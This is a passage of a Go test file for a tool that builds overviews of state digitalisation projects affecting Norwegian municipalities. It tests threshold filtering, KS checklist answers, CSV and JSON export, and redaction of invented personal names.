package veiviser

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"unicode/utf8"

	"github.com/digitale-helgeland/veiviser/internal/finding"
	"github.com/digitale-helgeland/veiviser/internal/redact/redacttest"
	"github.com/digitale-helgeland/veiviser/internal/sample"
	"github.com/digitale-helgeland/veiviser/product"

	"github.com/digitale-helgeland/veiviser/internal/golden"

	"github.com/google/go-cmp/cmp"

	"github.com/digitale-helgeland/veiviser/benefit"
	"github.com/digitale-helgeland/veiviser/checklist"
	"github.com/digitale-helgeland/veiviser/phase"
	"github.com/digitale-helgeland/veiviser/stakeholder"
)

// The personal names of the portfolio fixture. They are invented; each
// must be gone from the redacted overview.
var fixtureNames = []string{"Kari Nordmann", "Ola Hansen", "Per Olsen", "Anne Berg", "Nils Dahl", "Eva Lund", "Tor Bakke", "Liv Strand", "Siri Moe"}

func ksRecord(t testing.TB, p *Project, id, reply string) {
	t.Helper()
	if err := p.Checklists.KS().Record(id, reply, checklist.Note{By: "Prosjektleder", On: phase.MustDate("01.02.2024")}); err != nil {
		t.Fatalf("KS %s: %v", id, err)
	}
}

func ksDefer(t testing.TB, p *Project, id string) {
	t.Helper()
	if err := p.Checklists.KS().Defer(id, checklist.Note{By: "Prosjektleder", On: phase.MustDate("01.02.2024"), Comment: "Avklares med KS i planleggingsfasen"}); err != nil {
		t.Fatalf("KS %s: %v", id, err)
	}
}

func twoPhases(start, mid, end string) phase.Timeline {
	m := phase.MustDate(mid)
	return phase.Timeline{
		{Phase: phase.Concept, Start: phase.MustDate(start), End: m},
		{Phase: phase.Planning, Start: m.AddDays(1), End: phase.MustDate(end)},
	}
}

// portfolioFixture is six entries: a municipal project in execution over
// the threshold, a municipal project in the idea phase, a state-internal
// project, a municipal project at exactly 10 MNOK, a stopped project, and
// a nil entry.
func portfolioFixture(t testing.TB) Portfolio {
	t.Helper()
	helgeland := sampleProject(t)
	helgeland.Investment = new(benefit.Kroner(12_500_000))
	helgeland.Description = "Digitaliseringssamarbeid for kommunene på Helgeland, ledet av Ola Hansen."
	helgeland.Stakeholders.Roles = stakeholder.Roles{
		{Role: stakeholder.ProjectOwner, Person: "Kari Nordmann", Position: "rådmann"},
		{Role: stakeholder.ProjectManager, Person: "Ola Hansen"},
		{Role: stakeholder.BenefitResponsible, Person: "Per Olsen"},
	}

	melding := mustProject(ProjectConfig{ID: "SD-2", Name: "Felles meldingstjeneste", Agency: "Statens digitaliseringsenhet", StateAffectingMunicipalities: true})
	melding.Description = `Ny tjeneste for "digital post", også til kommunene; styrt av Nils Dahl`
	melding.Investment = new(benefit.Kroner(45_000_000) + 50)
	melding.Timeline = twoPhases("01.01.2024", "30.06.2024", "31.12.2024")
	ksRecord(t, melding, "1", "ja")
	ksRecord(t, melding, "3", "nei")
	ksDefer(t, melding, "4")
	plan := sample.BenefitPlan()
	plan.Plan.Benefits = append(plan.Plan.Benefits, benefit.Benefit{
		ID: "G2", Description: "Spart porto i kommunene", Area: benefit.Municipal, Valuation: benefit.Priced,
		StartYear: 2025, FullEffect: benefit.Kroner(3_000_000),
	})
	melding.Documents = []product.Document{plan}
	melding.Stakeholders = stakeholder.Register{
		Stakeholders: []stakeholder.Stakeholder{{ID: "S1", Group: "Kommunale arkivledere", Name: "Eva Lund"}},
		Bodies:       []stakeholder.Body{{ID: "SG", Name: "Styringsgruppe", Members: []stakeholder.Member{{ID: "m1", Person: "Tor Bakke"}}}},
		Roles: stakeholder.Roles{
			{Role: stakeholder.ProjectOwner, Person: "Nils Dahl"},
			{Role: stakeholder.ProjectManager, Person: "Anne Berg"},
			{Role: stakeholder.ProjectManager, Person: "Eva Lund"},
			{Role: stakeholder.SeniorUser}, // vacant; not in the overview
		},
	}

	arkiv := mustProject(ProjectConfig{ID: "SD-3", Name: "Internt arkivsystem", Agency: "Statens digitaliseringsenhet"})
	arkiv.Investment = new(benefit.Kroner(200_000_000))
	arkiv.Stakeholders.Roles = stakeholder.Roles{{Role: stakeholder.ProjectManager, Person: "Liv Strand"}}

	grense := mustProject(ProjectConfig{ID: "SD-4", Name: "Prosjekt på grensen", Agency: "Statens digitaliseringsenhet", StateAffectingMunicipalities: true})
	grense.Investment = new(DefaultThreshold)

	stanset := mustProject(ProjectConfig{ID: "KV-5", Name: "Kartløsning for planbehandling", Agency: "Kartverket", StateAffectingMunicipalities: true})
	stanset.Investment = new(benefit.Kroner(15_000_000))
	stanset.Timeline = twoPhases("01.03.2023", "31.08.2023", "29.02.2024")
	stanset.Stakeholders = stakeholder.Register{
		Organisations: []stakeholder.Organisation{
			{ID: "kv", Name: "Kartverket", Kind: stakeholder.StateAgency},
			{ID: "ks", Name: "KS", Kind: stakeholder.KS},
		},
		Involvement: []stakeholder.Involvement{{Agency: "kv", Counterpart: "ks", Level: stakeholder.SharedUnderstanding,
			Date: phase.MustDate("15.03.2023"), Justification: "Felles arbeidsgruppe med KS"}},
		Roles: stakeholder.Roles{{Role: stakeholder.ProjectOwner, Person: "Siri Moe"}},
	}
	stanset.Documents = []product.Document{&product.BenefitPlan{Header: sample.Header("Kartløsning"), Plan: benefit.Plan{
		Responsible: "Direktør",
		Municipal:   &benefit.MunicipalShare{Split: []benefit.SizeShare{{Class: benefit.Small, Municipalities: 200, Cost: benefit.Kroner(4_000_000)}}},
	}}}
	if err := stanset.Decide(decision(phase.BP1, phase.Stopped, "01.09.2023")); err != nil {
		t.Fatal(err)
	}
	return Portfolio{helgeland, melding, arkiv, grense, stanset, nil}
}

func rowOf(t *testing.T, ov Overview, id string) Row {
	t.Helper()
	for _, r := range ov {
		if r.ID == id {
			return r
		}
	}
	t.Fatalf("no row %s", id)
	return Row{}
}

func TestPortfolioOverview(t *testing.T) {
	pf := portfolioFixture(t)
	ids := func(ov Overview) []string {
		var out []string
		for _, r := range ov {
			out = append(out, r.ID)
		}
		return out
	}
	for _, tc := range []struct {
		name string
		o    OverviewOptions
		want []string
	}{
		{"default", OverviewOptions{}, []string{"DH-2020-1", "SD-2", "KV-5"}},
		{"threshold 20 MNOK", OverviewOptions{Threshold: benefit.Kroner(20_000_000)}, []string{"SD-2"}},
		{"threshold just below 10 MNOK", OverviewOptions{Threshold: DefaultThreshold - 1}, []string{"DH-2020-1", "SD-2", "SD-4", "KV-5"}},
		{"no threshold", OverviewOptions{Threshold: -1}, []string{"DH-2020-1", "SD-2", "SD-4", "KV-5"}},
		{"unaffected too", OverviewOptions{IncludeUnaffected: true}, []string{"DH-2020-1", "SD-2", "SD-3", "KV-5"}},
		{"everything", OverviewOptions{Threshold: -1, IncludeUnaffected: true, Redact: true}, []string{"DH-2020-1", "SD-2", "SD-3", "SD-4", "KV-5"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, ids(pf.Overview(tc.o))); diff != "" {
				t.Errorf("rows (-want +got):\n%s", diff)
			}
		})
	}

	all := pf.Overview(OverviewOptions{Threshold: -1, IncludeUnaffected: true})
	want := Row{
		ID: "SD-2", Agency: "Statens digitaliseringsenhet", Project: "Felles meldingstjeneste",
		Description: `Ny tjeneste for "digital post", også til kommunene; styrt av Nils Dahl`,
		Start:       phase.MustDate("01.01.2024"), End: phase.MustDate("31.12.2024"),
		Phase: phase.Idea, Status: phase.Active,
		Municipal: checklist.Yes, KSInvolved: checklist.Yes, CostsEstimated: checklist.No, BenefitsEstimated: checklist.Yes,
		Investment: new(benefit.Kroner(45_000_000) + 50),
		Roles: stakeholder.Roles{
			{Role: stakeholder.ProjectOwner, Person: "Nils Dahl"},
			{Role: stakeholder.ProjectManager, Person: "Anne Berg"},
			{Role: stakeholder.ProjectManager, Person: "Eva Lund"},
		},
	}
	if diff := cmp.Diff(want, rowOf(t, all, "SD-2")); diff != "" {
		t.Errorf("row SD-2 (-want +got):\n%s", diff)
	}
	if r := rowOf(t, all, "KV-5"); r.Status != phase.Halted || r.Phase != phase.Idea {
		t.Errorf("stopped project: phase %v, status %v", r.Phase, r.Status)
	}
	if r := rowOf(t, all, "DH-2020-1"); r.Phase != phase.Execution || r.Start != phase.MustDate("01.03.2020") || r.End != phase.MustDate("31.12.2025") {
		t.Errorf("Helgeland: phase %v, %v–%v", r.Phase, r.Start, r.End)
	}
}

// TestPortfolioRowAnswers checks how each yes/no answer is derived.
func TestPortfolioRowAnswers(t *testing.T) {
	type answers struct{ Municipal, KS, Costs, Benefits checklist.Bool }
	y, n, u := checklist.Yes, checklist.No, checklist.Bool(0) // u: nothing recorded, not known
	withPlan := func(p *Project, plan benefit.Plan) {
		plan.Responsible = "Direktør"
		p.Documents = append(p.Documents, &product.BenefitPlan{Header: sample.Header(p.Name), Plan: plan})
	}
	for _, tc := range []struct {
		name  string
		setup func(t *testing.T, p *Project)
		want  answers
	}{
		{"nothing recorded", func(*testing.T, *Project) {}, answers{y, u, u, u}},
		{"not municipal", func(_ *testing.T, p *Project) { p.StateAffectingMunicipalities = false }, answers{n, u, u, u}},
		{"no checklists", func(_ *testing.T, p *Project) { p.Checklists = nil }, answers{y, u, u, u}},
		{"checkpoints 1, 3, 4 yes", func(t *testing.T, p *Project) {
			ksRecord(t, p, "1", "ja")
			ksRecord(t, p, "3", "ja")
			ksRecord(t, p, "4", "ja")
		}, answers{y, y, y, y}},
		{"checkpoints answered no", func(t *testing.T, p *Project) {
			ksRecord(t, p, "1", "nei")
			ksRecord(t, p, "3", "nei")
			ksRecord(t, p, "4", "nei")
		}, answers{y, n, n, n}},
		{"checkpoints deferred or not relevant", func(t *testing.T, p *Project) {
			ksDefer(t, p, "1")
			note := checklist.Note{By: "Prosjektleder", On: phase.MustDate("01.02.2024"), Comment: "Ingen kostnader for kommunene"}
			if err := p.Checklists.KS().NotRelevant("3", note); err != nil {
				t.Fatal(err)
			}
		}, answers{y, u, u, u}},
		{"checkpoint answered yes, then reopened", func(t *testing.T, p *Project) {
			ksRecord(t, p, "1", "ja")
			if err := p.Checklists.KS().Reopen("1", checklist.Note{By: "Prosjektleder", On: phase.MustDate("02.02.2024"), Comment: "Ny vurdering"}); err != nil {
				t.Fatal(err)
			}
		}, answers{y, u, u, u}},
		{"archived answers count", func(t *testing.T, p *Project) {
			ks := p.Checklists.KS()
			for _, it := range ks.Items() {
				ksRecord(t, p, it.ID, "ja")
			}
			if err := ks.Archive(checklist.Note{By: "Prosjektleder", On: phase.MustDate("03.02.2024")}); err != nil {
				t.Fatal(err)
			}
		}, answers{y, y, y, y}},
		{"involvement with KS", func(_ *testing.T, p *Project) {
			p.Stakeholders.Organisations = []stakeholder.Organisation{{ID: "ks", Name: "KS", Kind: stakeholder.KS}}
			p.Stakeholders.Involvement = []stakeholder.Involvement{{Agency: "sd", Counterpart: "ks", Level: stakeholder.InformationSharing}}
		}, answers{y, y, u, u}},
		{"involvement with a municipality is not KS", func(_ *testing.T, p *Project) {
			p.Stakeholders.Organisations = []stakeholder.Organisation{{ID: "vefsn", Name: "Vefsn kommune", Kind: stakeholder.Municipality}}
			p.Stakeholders.Involvement = []stakeholder.Involvement{{Agency: "sd", Counterpart: "vefsn", Level: stakeholder.JointStrategy}}
		}, answers{y, u, u, u}},
		{"municipal cost by size class", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Municipal: &benefit.MunicipalShare{Split: []benefit.SizeShare{{Class: benefit.Large, Cost: 1}}}})
		}, answers{y, u, y, u}},
		{"implementation estimate", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Municipal: &benefit.MunicipalShare{Implementation: &benefit.ImplementationCost{Estimate: benefit.Kroner(2_000_000)}}})
		}, answers{y, u, y, u}},
		{"zero amounts are no estimate", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Municipal: &benefit.MunicipalShare{
				Split:          []benefit.SizeShare{{Class: benefit.Small, Municipalities: 10}},
				Implementation: &benefit.ImplementationCost{},
			}})
		}, answers{y, u, u, u}},
		{"municipal benefit by size class", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Municipal: &benefit.MunicipalShare{Split: []benefit.SizeShare{{Class: benefit.Medium, Benefit: benefit.Kroner(1)}}}})
		}, answers{y, u, u, y}},
		{"municipal effort freed", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Municipal: &benefit.MunicipalShare{Split: []benefit.SizeShare{{Class: benefit.Medium, Effort: benefit.Arsverk(30)}}}})
		}, answers{y, u, u, y}},
		{"priced municipal benefit", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Benefits: []benefit.Benefit{{ID: "G1", Area: benefit.Municipal, Valuation: benefit.Priced}}})
		}, answers{y, u, u, y}},
		{"unpriced municipal benefit is not an estimate", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Benefits: []benefit.Benefit{{ID: "G1", Area: benefit.Municipal, Valuation: benefit.Unpriced}}})
		}, answers{y, u, u, u}},
		{"priced benefit elsewhere is not municipal", func(_ *testing.T, p *Project) {
			withPlan(p, benefit.Plan{Benefits: []benefit.Benefit{{ID: "G1", Area: benefit.Citizens, Valuation: benefit.Priced}}})
		}, answers{y, u, u, u}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := mustProject(ProjectConfig{ID: "SD-1", Name: "Prosjekt", Agency: "Statens digitaliseringsenhet", StateAffectingMunicipalities: true})
			tc.setup(t, p)
			r := p.PortfolioRow()
			got := answers{r.Municipal, r.KSInvolved, r.CostsEstimated, r.BenefitsEstimated}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("answers (-want +got):\n%s", diff)
			}
		})
	}
}

func TestOverviewSelect(t *testing.T) {
	ov := Overview{
		{Project: "over, municipal", Investment: new(DefaultThreshold + 1), Municipal: checklist.Yes},
		{Project: "at the threshold", Investment: new(DefaultThreshold), Municipal: checklist.Yes},
		{Project: "over, not municipal", Investment: new(DefaultThreshold + 1), Municipal: checklist.No},
		{Project: "over, not reported", Investment: new(DefaultThreshold + 1)},
		{Project: "zero", Investment: new(benefit.Money(0)), Municipal: checklist.Yes},
		{Project: "unknown", Municipal: checklist.Yes},
	}
	names := func(ov Overview) []string {
		var out []string
		for _, r := range ov {
			out = append(out, r.Project)
		}
		return out
	}
	for _, tc := range []struct {
		o    OverviewOptions
		want []string
	}{
		// An unknown investment is kept by default and left out on request.
		{OverviewOptions{}, []string{"over, municipal", "unknown"}},
		{OverviewOptions{ExcludeUnknown: true}, []string{"over, municipal"}},
		{OverviewOptions{IncludeUnaffected: true}, []string{"over, municipal", "over, not municipal", "over, not reported", "unknown"}},
		{OverviewOptions{Threshold: -1}, []string{"over, municipal", "at the threshold", "zero", "unknown"}},
	} {
		if diff := cmp.Diff(tc.want, names(ov.Select(tc.o))); diff != "" {
			t.Errorf("%+v (-want +got):\n%s", tc.o, diff)
		}
	}
}

// goldenCSV checks got against testdata/portfolio/name; go test -update
// rewrites it.
func goldenCSV(t *testing.T, name string, got []byte) {
	t.Helper()
	golden.Check(t, filepath.Join("testdata", "portfolio", name), got)
}

func TestOverviewCSVGolden(t *testing.T) {
	pf := portfolioFixture(t)
	all := OverviewOptions{Threshold: -1, IncludeUnaffected: true}
	for _, tc := range []struct {
		file string
		ov   Overview
		o    CSVOptions
	}{
		{"overview.nb.csv", pf.Overview(OverviewOptions{}), CSVOptions{}},
		{"overview-all.nn.csv", pf.Overview(all), CSVOptions{Language: phase.Nynorsk, Comma: ';'}},
		{"overview-all.en.csv", pf.Overview(all), CSVOptions{Language: phase.English}},
		{"overview-redacted.nb.csv", pf.Overview(OverviewOptions{Redact: true}), CSVOptions{Comma: ';'}},
	} {
		t.Run(tc.file, func(t *testing.T) {
			got, err := tc.ov.CSV(tc.o)
			if err != nil {
				t.Fatal(err)
			}
			again, err := tc.ov.CSV(tc.o)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, again) {
				t.Error("two runs gave different CSV")
			}
			goldenCSV(t, tc.file, got)
		})
	}
}

// TestOverviewCSVReadsBack checks that encoding/csv reads back every field
// the writer wrote, whatever the text holds.
func TestOverviewCSVReadsBack(t *testing.T) {
	ov := Overview{{
		Agency: "Etat; med semikolon", Project: `Navn med "anførselstegn"`,
		Description: "To linjer,\nmed komma", Note: "  mellomrom  ",
		Start: phase.MustDate("29.02.2024"), Phase: phase.Closure, Status: phase.Completed,
		Municipal: checklist.Yes, KSInvolved: checklist.No,
		Investment: new(-benefit.Kroner(5) - 7),
		Roles:      stakeholder.Roles{{Role: stakeholder.ProjectManager, Person: "A"}, {Role: stakeholder.ProjectManager, Person: "B"}},
	}}
	for _, comma := range []rune{0, ';', '\t'} {
		b, err := ov.CSV(CSVOptions{Comma: comma})
		if err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b))
		if comma != 0 {
			cr.Comma = comma
		}
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := [][]string{
			{"Virksomhet", "Prosjekt", "Beskrivelse", "Oppstart", "Planlagt ferdig", "Fase", "Berører kommunal sektor", "KS involvert",
				"Kommunale kostnader beregnet", "Kommunale gevinster beregnet", "Investering (kr)", "Prosjekteier", "Prosjektleder", "Merknad"},
			{"Etat; med semikolon", `Navn med "anførselstegn"`, "To linjer,\nmed komma", "29.02.2024", "", "Avslutningsfase (fullført)",
				"ja", "nei", "", "", "-5,07", "", "A; B", "  mellomrom  "},
		}
		if diff := cmp.Diff(want, recs); diff != "" {
			t.Errorf("comma %q (-want +got):\n%s", comma, diff)
		}
	}
}

func TestMoneyCell(t *testing.T) {
	for _, tc := range []struct {
		m      benefit.Money
		nb, en string
	}{
		{0, "0", "0"},
		{benefit.Kroner(12_500_000), "12500000", "12500000"},
		{benefit.Kroner(1234) + 50, "1234,50", "1234.50"},
		{benefit.Kroner(1) + 5, "1,05", "1.05"},
		{-benefit.Kroner(3) - 1, "-3,01", "-3.01"},
		{-99, "-0,99", "-0.99"},
		{benefit.Money(-1 << 63), "-92233720368547758,08", "-92233720368547758.08"},
	} {
		if got := moneyCell(tc.m, phase.Bokmal); got != tc.nb {
			t.Errorf("moneyCell(%d, nb) = %q, want %q", int64(tc.m), got, tc.nb)
		}
		if got := moneyCell(tc.m, phase.English); got != tc.en {
			t.Errorf("moneyCell(%d, en) = %q, want %q", int64(tc.m), got, tc.en)
		}
	}
}

type failingWriter struct{}

var errDiskFull = errors.New("disk full")

func (failingWriter) Write([]byte) (int, error) { return 0, errDiskFull }

func TestOverviewCSVErrors(t *testing.T) {
	ov := Overview{{Project: "P"}}
	if _, err := ov.CSV(CSVOptions{Language: phase.Language(9)}); !errors.Is(err, phase.ErrUnknownValue) {
		t.Errorf("invalid language: %v, want ErrUnknownValue", err)
	}
	if _, err := ov.CSV(CSVOptions{Comma: '"'}); err == nil {
		t.Error("quote as delimiter: no error")
	}
	if err := ov.WriteCSV(failingWriter{}, CSVOptions{}); !errors.Is(err, errDiskFull) {
		t.Errorf("failing writer: %v, want %v", err, errDiskFull)
	}
	b, err := Overview(nil).CSV(CSVOptions{})
	if err != nil || strings.Count(string(b), "\n") != 1 {
		t.Errorf("empty overview: %q, %v; want the heading row only", b, err)
	}
}

// TestRedactedOverviewHasNoNames checks that no personal name of the
// portfolio survives in the published CSV, in any language, and that the
// roles still show as filled.
func TestRedactedOverviewHasNoNames(t *testing.T) {
	pf := portfolioFixture(t)
	var names []string
	for _, p := range pf {
		if p != nil {
			names = append(names, p.Stakeholders.PersonalNames()...)
		}
	}
	slices.Sort(names)
	if diff := cmp.Diff(fixtureNames, slices.Compact(names), cmpSorted); diff != "" {
		t.Fatalf("fixture names (-want +got):\n%s", diff)
	}
	open, err := pf.Overview(OverviewOptions{Threshold: -1, IncludeUnaffected: true}).CSV(CSVOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"Kari Nordmann", "Nils Dahl", "Anne Berg", "Liv Strand"} {
		if !strings.Contains(string(open), n) {
			t.Errorf("the internal overview lacks %q", n)
		}
	}
	for _, l := range []phase.Language{phase.Bokmal, phase.Nynorsk, phase.English} {
		ov := pf.Overview(OverviewOptions{Threshold: -1, IncludeUnaffected: true, Redact: true})
		b, err := ov.CSV(CSVOptions{Language: l})
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range fixtureNames {
			for _, part := range append(strings.Fields(n), n) {
				if strings.Contains(string(b), part) {
					t.Errorf("%v: redacted CSV contains %q", l, part)
				}
			}
		}
		// Seven role holders are marked in the CSV's language; two names in
		// descriptions are replaced in the data by stakeholder.RedactedName,
		// which is also the bokmål mark.
		roleMarks := strings.Count(string(b), redactedNames.In(l))
		textMarks := strings.Count(string(b), stakeholder.RedactedName)
		wantRole, wantText := 7, 2
		if l == phase.Bokmal {
			wantRole, wantText = 9, 9
		}
		if roleMarks != wantRole || textMarks != wantText {
			t.Errorf("%v: %d role marks and %d text marks; want %d and %d", l, roleMarks, textMarks, wantRole, wantText)
		}
	}
	// The portfolio itself is unchanged.
	if got := pf[0].Stakeholders.Roles[0].Person; got != "Kari Nordmann" {
		t.Errorf("Overview changed the project: owner %q", got)
	}
}

var cmpSorted = cmp.Transformer("sorted", func(in []string) []string {
	out := slices.Clone(in)
	slices.Sort(out)
	return out
})

func TestOverviewRedacted(t *testing.T) {
	ov := Overview{{
		Project:     "Kari Nordmanns prosjekt", // a genitive is the name too
		Description: "Ledes av Kari Nordmann (prosjektleder) og Kari.",
		Note:        "Kontakt: Kari Nordmann, Ola",
		Roles: stakeholder.Roles{
			{Role: stakeholder.ProjectManager, Person: " Kari Nordmann "},
			{Role: stakeholder.ProjectOwner, Person: "Ola"},
		},
	}}
	want := Overview{{
		Project:     "(navn fjernet) prosjekt",
		Description: "Ledes av (navn fjernet) (prosjektleder) og Kari.",
		Note:        "Kontakt: (navn fjernet), (navn fjernet)",
		Roles: stakeholder.Roles{
			{Role: stakeholder.ProjectManager, Redacted: true},
			{Role: stakeholder.ProjectOwner, Redacted: true},
		},
	}}
	got := ov.Redacted()
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Redacted (-want +got):\n%s", diff)
	}
	if ov[0].Roles[0].Person != " Kari Nordmann " {
		t.Error("Redacted changed its receiver")
	}
	if Overview(nil).Redacted() != nil {
		t.Error("nil overview: want nil")
	}
}

// panicDoc is a document whose validation panics.
type panicDoc struct{ product.BenefitPlan }

func (*panicDoc) Kind() phase.Product      { return phase.FinalReport }
func (*panicDoc) Validate() phase.Findings { panic("broken document") }

func TestPortfolioValidate(t *testing.T) {
	pf := portfolioFixture(t)
	literal := &Project{ID: "L-1", Name: "Prosjekt uten livsløp", Agency: "Etat"} // no lifecycle yet
	broken := mustProject(ProjectConfig{ID: "B-1", Name: "Ødelagt", Agency: "Etat"})
	broken.Documents = []product.Document{&panicDoc{}}
	pf = append(pf, literal, literal, broken, pf[1])

	want := make([]Report, len(pf))
	for i, p := range pf {
		switch {
		case p == nil:
			want[i] = failedReport("", finding.New("portfolio.project_missing", "", phase.SeverityError, phase.Text{
				NB: "Porteføljen har et tomt prosjekt", NN: "Porteføljen har eit tomt prosjekt", EN: "The portfolio holds an empty project"}))
		case p == broken:
			want[i] = failedReport("Ødelagt", finding.New("portfolio.validation_failed", "", phase.SeverityError, phase.Text{
				NB: "Valideringen av prosjektet feilet: broken document",
				NN: "Valideringa av prosjektet feila: broken document",
				EN: "Validating the project failed: broken document"}))
		default:
			want[i] = p.Clone().Validate()
		}
	}
	for _, workers := range []int{0, 1, 2, 3, len(pf), 100} {
		if diff := cmp.Diff(want, pf.validate(workers)); diff != "" {
			t.Errorf("%d workers (-want +got):\n%s", workers, diff)
		}
	}
	if diff := cmp.Diff(want, pf.Validate()); diff != "" {
		t.Errorf("Validate (-want +got):\n%s", diff)
	}
	if got := Portfolio(nil).Validate(); len(got) != 0 {
		t.Errorf("empty portfolio: %d reports", len(got))
	}
	if want[1].Errors == 0 || want[1].Project != "Felles meldingstjeneste" {
		t.Errorf("the fixture's second project should have errors: %+v", want[1])
	}
}

// TestPortfolioValidateLeavesNoGoroutines runs Validate in a synctest
// bubble, which fails when a goroutine started inside it is still there
// (blocked) after the test function returns.
func TestPortfolioValidateLeavesNoGoroutines(t *testing.T) {
	pf := portfolioFixture(t)
	for range 5 {
		pf = append(pf, pf...)
	}
	synctest.Test(t, func(t *testing.T) {
		reports := pf.Validate()
		if len(reports) != len(pf) {
			t.Errorf("%d reports for %d projects", len(reports), len(pf))
		}
	})
}

// A ministry's overview of its agencies' projects, as Difi proposed: the
// projects over 10 MNOK that affect the municipal sector, first for
// internal use and then without personal names for publishing.
func ExamplePortfolio_Overview() {
	post := mustProject(ProjectConfig{ID: "SD-1", Name: "Felles meldingstjeneste", Agency: "Statens digitaliseringsenhet", StateAffectingMunicipalities: true})
	post.Investment = new(benefit.Kroner(45_000_000))
	post.Timeline = phase.Timeline{
		{Phase: phase.Concept, Start: phase.MustDate("01.01.2024"), End: phase.MustDate("30.06.2024")},
		{Phase: phase.Planning, Start: phase.MustDate("01.07.2024"), End: phase.MustDate("31.12.2024")},
	}
	post.Stakeholders.Roles = stakeholder.Roles{{Role: stakeholder.ProjectManager, Person: "Anne Berg"}}
	_ = post.Checklists.KS().Record("1", "ja", checklist.Note{By: "Prosjektleder", On: phase.MustDate("15.01.2024")})

	small := mustProject(ProjectConfig{ID: "SD-2", Name: "Lite prosjekt", Agency: "Statens digitaliseringsenhet", StateAffectingMunicipalities: true})
	small.Investment = new(benefit.Kroner(2_000_000))

	pf := Portfolio{post, small}
	for _, redact := range []bool{false, true} {
		b, err := pf.Overview(OverviewOptions{Redact: redact}).CSV(CSVOptions{Comma: ';'})
		if err != nil {
			panic(err)
		}
		os.Stdout.Write(b)
	}
	// Output:
	// Virksomhet;Prosjekt;Beskrivelse;Oppstart;Planlagt ferdig;Fase;Berører kommunal sektor;KS involvert;Kommunale kostnader beregnet;Kommunale gevinster beregnet;Investering (kr);Prosjekteier;Prosjektleder;Merknad
	// Statens digitaliseringsenhet;Felles meldingstjeneste;;01.01.2024;31.12.2024;Idéfase;ja;ja;;;45000000;;Anne Berg;
	// Virksomhet;Prosjekt;Beskrivelse;Oppstart;Planlagt ferdig;Fase;Berører kommunal sektor;KS involvert;Kommunale kostnader beregnet;Kommunale gevinster beregnet;Investering (kr);Prosjekteier;Prosjektleder;Merknad
	// Statens digitaliseringsenhet;Felles meldingstjeneste;;01.01.2024;31.12.2024;Idéfase;ja;ja;;;45000000;;(navn fjernet);
}

// TestOverviewJSONRoundTrip checks that rows survive JSON, unset answers
// and dates included.
func TestOverviewJSONRoundTrip(t *testing.T) {
	ov := portfolioFixture(t).Overview(OverviewOptions{Threshold: -1, IncludeUnaffected: true})
	ov = append(ov, Row{Agency: "NAV", Project: "DigiSOS", Note: "Rapportert"})
	b, err := json.Marshal(ov)
	if err != nil {
		t.Fatal(err)
	}
	var got Overview
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(ov, got); diff != "" {
		t.Errorf("round trip (-want +got):\n%s", diff)
	}
}

// fillText sets every exported string field below v: fields tagged
// privacy:"id" to a code, privacy:"name" to the next of names (cycling),
// every other one to text. A slice of structs gets one element per name.
func fillText(v reflect.Value, text string, names []string, n *int) {
	switch v.Kind() {
	case reflect.Struct:
		for i := range v.NumField() {
			f := v.Type().Field(i)
			fv := v.Field(i)
			switch {
			case !f.IsExported():
			case fv.Kind() == reflect.String && f.Tag.Get("privacy") == "id":
				fv.SetString("id1")
			case fv.Kind() == reflect.String && f.Tag.Get("privacy") == "name":
				fv.SetString(names[*n%len(names)])
				*n++
			default:
				fillText(fv, text, names, n)
			}
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), len(names), len(names)))
		for i := range v.Len() {
			fillText(v.Index(i), text, names, n)
		}
	case reflect.String:
		v.SetString(text)
	}
}

// checkNoNames fails t for every string below v, and for its JSON and CSV,
// that keeps a part of one of names.
func checkNoNames(t *testing.T, ov Overview, names []string) {
	t.Helper()
	redacttest.Walk(ov, func(path string, s string) {
		if l := redacttest.Leaks(s, names); l != nil {
			t.Errorf("%s keeps %q", path, l)
		}
	})
	b, err := json.Marshal(ov)
	if err != nil {
		t.Fatal(err)
	}
	if l := redacttest.Leaks(string(b), names); l != nil {
		t.Errorf("the JSON keeps %q", l)
	}
	for _, l := range []phase.Language{phase.Bokmal, phase.Nynorsk, phase.English} {
		b, err := ov.CSV(CSVOptions{Language: l})
		if err != nil {
			t.Fatal(err)
		}
		if leaks := redacttest.Leaks(string(b), names); leaks != nil {
			t.Errorf("%v: the CSV keeps %q", l, leaks)
		}
	}
}

// TestOverviewRedactedRemovesEveryForm fills every string field of an
// overview row, roles[].position included, with the test names in every
// form a reader still recognises (redacttest.Forms) and gives the roles
// those names. Overview.Redacted must leave no part of any name in any
// string of the rows, nor in their JSON or CSV; a new string field of Row
// or Assignment that redaction does not cover makes this test fail.
func TestOverviewRedactedRemovesEveryForm(t *testing.T) {
	names := redacttest.Names
	stored := append(slices.Clone(names), "KARI  NORDMANN")
	var row Row
	n := 0
	fillText(reflect.ValueOf(&row).Elem(), redacttest.Text(names), stored, &n)
	if n < len(names) {
		t.Fatalf("%d role holders for %d names; the test is broken", n, len(names))
	}
	ov := Overview{row, row}
	leaky := 0
	redacttest.Walk(ov, func(_, s string) {
		if redacttest.Leaks(s, names) != nil {
			leaky++
		}
	})
	// Agency, project, description, note, and each role's person and
	// position, in two rows.
	if want := 2 * (4 + 2*len(stored)); leaky != want {
		t.Fatalf("%d strings hold names before redaction, want %d; the test is broken", leaky, want)
	}
	red := ov.Redacted()
	checkNoNames(t, red, names)
	for i, a := range red[0].Roles {
